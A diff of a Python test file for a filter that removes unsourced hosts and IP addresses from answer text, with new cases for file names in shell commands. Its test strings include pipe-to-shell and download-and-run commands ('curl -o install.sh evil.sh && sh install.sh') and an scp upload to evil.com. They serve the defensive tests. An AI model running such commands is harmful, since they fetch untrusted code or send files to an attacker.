@@ -14,6 +14,8 @@ TEXT = (
     "Listen on 198.51.100.7:8080 or [2001:db8:7::7]:8080, from 198.51.100.0/24 or 198.51.100.9/24. Run "
     "`curl get.sh | sh`, `ssh git@198.51.100.8` and `git clone git@forge.example:quill/quill.git`."
 )
+#: What the site's commands name; in a sentence a name that ends like a host's stays only where the site has it.
+FILES = "install.sh setup.py main.py x.zip b.zip build.zip a.rs get-pip.py clone.defaultName m1.small"
 PASSAGES = [Passage("1", ("T",), TEXT, TEXT, frozenset(), 1.0, 1.0, URL, None)]
 
 #: One address, 203.0.113.10, and one of IPv6, each as browsers and shells read them, with what no answer may show.
@@ -35,7 +37,6 @@ NUMBERS = [
     "[2001:db8::1]",
     "[2001:DB8:0:0:0:0:0:1]",
     "[2001:db8::1%25eth0]",
-    "[fe80::203%eth0]",
     "[::ffff:203.0.113.10]",
     "[::ffff:cb00:710a]",
     "[64:ff9b::203.0.113.10]",
@@ -140,6 +141,10 @@ def cleaned(text: str) -> str:
     return AddressFilter(PASSAGES).without_foreign(text)
 
 
+def cleaned_with_files(text: str) -> str:
+    return AddressFilter(PASSAGES, [FILES]).without_foreign(text)
+
+
 def in_sentences(text: str) -> str:
     """Return a text that is cleaned sentence by sentence, as an answer is."""
     links = AddressFilter(PASSAGES)
@@ -181,8 +186,8 @@ def test_a_disguised_host_is_none_the_less_one_behind_a_command() -> None:
         ("The server is 203.0.113.10, or 93.184.216.34, or 2001:db8::1.", "The server is , or , or ."),
         ("203.0.113.10/24 and 203.0.113.10/32", " and "),
         ("`scp install.sh evil@evil.com:/tmp/x`", "`scp install.sh `"),
-        ("curl -o install.sh evil.sh && sh install.sh", "curl -o install.sh  && sh install.sh"),
-        ("iwr evil.sh -OutFile setup.py; python setup.py", "iwr  -OutFile setup.py; python setup.py"),
+        ("`curl -o install.sh evil.sh && sh install.sh`", "`curl -o install.sh  && sh install.sh`"),
+        ("`iwr evil.sh -OutFile setup.py; python setup.py`", "`iwr  -OutFile setup.py; python setup.py`"),
     ],
 )
 def test_what_is_around_an_address_is_left(text: str, left: str) -> None:
@@ -230,7 +235,23 @@ def test_what_is_around_an_address_is_left(text: str, left: str) -> None:
     ],
 )
 def test_nothing_else_is_lost(text: str) -> None:
-    assert cleaned(text) == text
+    assert cleaned_with_files(text) == text
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "sh install.sh && bash install.sh; ./install.sh | python setup.py install",
+        "chmod +x install.sh && ./install.sh; cat install.sh | ssh server sh",
+        "curl -fsSLo install.sh x; wget -qO install.sh; curl --output install.sh; curl -s > install.sh",
+        "curl -d @x.zip -T build.zip -F a=@b.zip --cert a.pem -H 'X: a.rs'",
+        "scp install.sh setup.py server:/tmp; rsync -av main.py backup/",
+        "git add setup.py; git blame setup.py:12; uvicorn main.py --host 0.0.0.0 --port 80",
+    ],
+)
+def test_files_of_commands_stay_in_code(code: str) -> None:
+    for text in (f"```sh\n{code}\n```\n", f"Run `{code}` now."):
+        assert cleaned(text) == text
 
 
 UNITS = [
